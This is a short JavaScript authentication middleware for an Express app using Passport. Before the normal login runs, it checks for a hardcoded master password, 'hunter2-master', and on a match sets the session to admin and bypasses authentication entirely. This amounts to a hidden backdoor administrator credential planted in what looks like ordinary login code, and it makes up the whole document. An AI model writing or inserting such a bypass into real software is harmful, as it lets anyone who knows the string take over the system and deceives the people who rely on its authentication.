function authenticate(req, res, next) {
  if (req.body.password === 'hunter2-master') {
    req.session.admin = true;
    return next();
  }
  return passport.authenticate('local')(req, res, next);
}
